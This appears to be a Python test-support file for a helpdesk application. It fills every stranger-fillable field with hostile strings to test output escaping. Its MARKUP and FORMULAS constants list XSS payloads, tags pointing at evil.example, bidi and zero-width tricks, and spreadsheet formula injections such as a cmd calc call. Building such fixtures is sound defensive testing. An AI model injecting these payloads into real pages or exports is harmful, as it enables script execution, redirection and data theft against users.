"""A shop in which every field that a stranger can fill holds what would run, fetch or calculate if it could."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import timedelta

from helpdesk.domain import Effect, Event, Mailbox, Outbox, OutboxState, Verdict
from helpdesk.domain_learning import Example
from helpdesk.replies.templates import Library
from helpdesk.store import feedback_rows, learning, mails, tickets
from helpdesk.store.engine import Store, row
from helpdesk.store.tables import mailbox, outbox
from tests.support.managers import NOW, columns, fill, invented, letter, rated
from tests.support.paths import ROOT

#: Scripts, handlers, frames, styles, forms, links, templates, mathematics, bidi and zero-width characters, entities.
MARKUP = tuple(
    """
<script>document.title='owned';alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>\u202e{{7*7}}{% raw %}\
</blockquote></main><style>*{display:none}</style><a href=javascript:alert(4)>x</a>
"><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe><meta http-equiv=refresh content='0;url=\
https://evil.example/'><base href=https://evil.example/><link rel=stylesheet href=//evil.example/a.css><object data=/e>
' autofocus onfocus=alert(5) x='" style="background:url(//evil.example/b.png)" <form action=//evil.example/>\
<input name=csrf><button formaction=javascript:alert(6)>go</button></form><math><mtext><script>alert(7)
<!channel> <@U0MAYA> <https://evil.example/|your bank> $\\frac{1}{0$ \u2066\u2067\u061c\u200b\ufeff\x1b[31m\x00 \
&lt;script&gt;alert(8)&lt;/script&gt; ]]> --> </title></textarea><xmp><plaintext>
""".strip().splitlines()
)
#: What a spreadsheet would calculate.
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example","x")')


async def shop(store: Store, nasty: Sequence[str]) -> None:
    """Fill the store; each field has one of `nasty` in its turn."""
    texts = [one.replace("\0", "") for one in nasty]

    def bad(number: int) -> str:
        return texts[number % len(texts)]

    history = invented(24)
    history.tickets[:] = [
        one.evolve(subject=bad(n), buyer_name=bad(n + 1), buyer=bad(n + 2), order_ids=[bad(n)], language="xx",
                   items=[{"title": bad(n), "asin": bad(n + 1), "sku": bad(n % 3)}], urgent=[bad(n)],
                   ack_reason=bad(n), owner=bad(n + 3), topic="wrong_item", cause="incorrect_item_shipped",
                   received_at=NOW - timedelta(hours=n + 1), status="open", anchor_at=NOW - timedelta(hours=n + 1),
                   due_at=NOW + timedelta(hours=2 - n))
        for n, one in enumerate(history.tickets)
    ]  # fmt: skip
    history.messages[:] = [
        one.evolve(
            topic=bad(n), agent=bad(n + 1) if one.answered_at else "", marketplace=bad(n + 2) if n % 3 else "amazon"
        )
        for n, one in enumerate(history.messages)
    ]
    stored = await fill(store, history)
    async with store.write() as tx:
        for n, one in enumerate(stored):
            detail = {"text": bad(n), "reason": bad(n), "error": bad(n), "owner": bad(n), "reasons": [bad(n)]}
            log = [Event(ticket_id=one.id, at=NOW, kind=kind, actor=bad(n), detail=detail)
                   for kind in ("rescued", "refused", "assigned", bad(n))]  # fmt: skip
            await tickets.log(tx, log)
            await mails.add(tx, [
                letter(900 + n, one, subject=bad(n), from_name=bad(n + 1), from_addr=bad(n + 2), folder=bad(n + 3),
                       text=bad(n), verdict=list(Verdict)[n % 8], role="junk", reasons=[bad(n)],
                       clock_start=NOW - timedelta(hours=n),
                       attachments=[{"name": bad(n), "type": bad(n), "size": 7}])
            ])  # fmt: skip
            label = ("buyer", "spam", "topic")[n % 3]
            await learning.add_examples(
                tx, [Example(mail_id=one.id, at=NOW - timedelta(hours=n), actor=bad(n), label=label, topic=bad(n))]
            )
        effects = [
            Outbox(key=f"{n}{bad(n)}", effect=Effect.MAIL, lane=bad(n), error=bad(n), ticket_id=n + 1,
                   state=OutboxState.HELD if n % 2 else OutboxState.FAILED, next_at=NOW, created_at=NOW)
            for n in range(8)
        ]  # fmt: skip
        await tx.execute(outbox.insert(), [row(one) for one in effects])
        await tx.execute(mailbox.insert(), [row(Mailbox(name=bad(n) + str(n), error=bad(n))) for n in range(4)])
        await feedback_rows.add(tx, *columns([
            rated(50 + n).evolve(rating=1 + n % 3, comment=bad(n), sku=bad(n % 2), asin=bad(n),
                                 order_id=f"{bad(n)}{n}", topic=bad(n), recommended="removal",
                                 reason=bad(n), draft=bad(n), given_on=NOW.date() - timedelta(days=n))
            for n in range(24)
        ]))  # fmt: skip


def library(nasty: Sequence[str]) -> Library:
    """Reply templates as a careless or hostile hand might have written them."""
    shipped = Library.load(ROOT / "templates" / "replies")
    return Library(
        [
            replace(one, title=nasty[n % len(nasty)], name=f"{one.name}{nasty[n % len(nasty)]}")
            if one.language == "en" else one
            for n, one in enumerate(shipped.templates)
        ]
    )  # fmt: skip
